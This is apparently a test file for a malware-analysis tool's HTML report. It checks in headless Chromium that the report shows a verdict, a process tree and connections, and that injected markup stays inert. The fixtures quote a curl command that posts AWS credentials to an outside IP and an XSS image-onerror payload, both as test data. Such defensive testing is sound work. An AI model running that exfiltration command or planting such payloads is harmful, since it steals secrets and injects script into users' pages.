// The HTML report in a real headless browser (Debian's chromium through playwright-core): it renders,
// shows the verdict, the process tree and the connections, runs its script without console errors, and
// a hostile module's strings do not execute. A screenshot is kept in test/artifacts/.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { chromium } from 'playwright-core';
import { renderHtml } from '../src/report/html.js';
import { parseResult } from '../src/batch/result-file.js';
const root = fileURLToPath(new URL('../../', import.meta.url));
const CHROMIUM = '/usr/bin/chromium';
const ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'];
const artifacts = join(root, 'test/artifacts');
function writeReport(fixture) {
    const r = parseResult(readFileSync(join(root, 'test/fixtures/results', fixture), 'utf8'), fixture);
    mkdirSync(artifacts, { recursive: true });
    const file = join(artifacts, fixture.replace(/\.json$/, '.html'));
    writeFileSync(file, renderHtml(r));
    return file;
}
async function withPage(fn) {
    const browser = await chromium.launch({ executablePath: CHROMIUM, args: ARGS, headless: true });
    try {
        return await fn(browser);
    }
    finally {
        await browser.close();
    }
}
test('HTML report of a malicious sample renders in chromium: verdict, process tree, connections, no console errors', { skip: !existsSync(CHROMIUM) && 'chromium not installed (scripts/setup-host.sh installs it)' }, async () => {
    const file = writeReport('typosquat-dropper.dynamic.json');
    await withPage(async (browser) => {
        const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
        const problems = [];
        const requests = [];
        page.on('console', (m) => {
            if (m.type() === 'error' || m.type() === 'warning')
                problems.push(`${m.type()}: ${m.text()}`);
        });
        page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
        page.on('request', (r) => requests.push(r.url()));
        await page.goto(pathToFileURL(file).href);
        await page.waitForSelector('html[data-ready="1"]', { timeout: 10_000 });
        assert.equal(await page.textContent('#verdict'), 'MALICIOUS');
        assert.ok(await page.isVisible('#verdict'));
        const procs = await page.$$eval('.process-tree .proc code', (els) => els.map((e) => e.textContent ?? ''));
        assert.ok(procs.includes('/harness/harness') && procs.some((p) => p.startsWith('curl -s -d @/root/.aws/credentials')), procs.join(' | '));
        // curl is drawn inside bash, inside sh, inside the harness: four levels of nested lists.
        const depth = await page.$eval('.process-tree li:has(> span code:text-is("curl -s -d @/root/.aws/credentials http://198.51.100.23/c"))', (li) => {
            let n = 0;
            for (let e = li; e; e = e.parentElement)
                if (e.tagName === 'UL')
                    n++;
            return n;
        });
        assert.equal(depth, 4);
        const conns = await page.$$eval('table.connections tr.conn', (rows) => rows.map((r) => r.textContent ?? ''));
        assert.equal(conns.length, 2);
        assert.ok(conns.some((c) => c.includes('198.51.100.23:80') && c.includes('POST http://198.51.100.23/c')), conns.join('\n'));
        assert.ok(await page.isVisible('table.connections'));
        // The timeline is drawn and has a marker per event.
        assert.ok((await page.$$('svg.timeline circle.ev')).length >= 8);
        // Interactions: collapse/expand findings, filter reasons.
        await page.click('#collapse-all');
        assert.equal(await page.$$eval('details.finding[open]', (d) => d.length), 0);
        await page.click('#expand-all');
        assert.equal(await page.$$eval('details.finding[open]', (d) => d.length), await page.$$eval('details.finding', (d) => d.length));
        await page.uncheck('input.grade-filter[value="malicious"]');
        assert.equal(await page.isVisible('tr.reason[data-grade="malicious"]'), false);
        await page.check('input.grade-filter[value="malicious"]');
        await page.click('#collapse-all');
        await page.screenshot({ path: join(artifacts, 'report-typosquat-dropper.png'), fullPage: true });
        assert.deepEqual(problems, []);
        assert.deepEqual(requests.filter((u) => !u.startsWith('file:')), [], 'the page loads nothing from anywhere');
    });
});
test('hostile strings in the report do not run in the browser', { skip: !existsSync(CHROMIUM) && 'chromium not installed' }, async () => {
    const file = writeReport('hostile-strings.dynamic.json');
    await withPage(async (browser) => {
        const page = await browser.newPage();
        const errors = [];
        page.on('pageerror', (e) => errors.push(e.message));
        await page.goto(pathToFileURL(file).href);
        await page.waitForSelector('html[data-ready="1"]', { timeout: 10_000 });
        assert.equal(await page.evaluate(() => window.__pwned), undefined);
        assert.equal(await page.$$eval('img', (imgs) => imgs.length), 0);
        assert.equal(await page.$$eval('script', (s) => s.length), 1);
        // The payload is shown as text.
        const shown = await page.$$eval('.process-tree code', (els) => els.map((e) => e.textContent ?? ''));
        assert.ok(shown.some((t) => t.includes('</script><img src=x onerror="window.__pwned=1">')), shown.join(' | '));
        assert.deepEqual(errors, []);
    });
});
//# sourceMappingURL=report-browser.test.js.map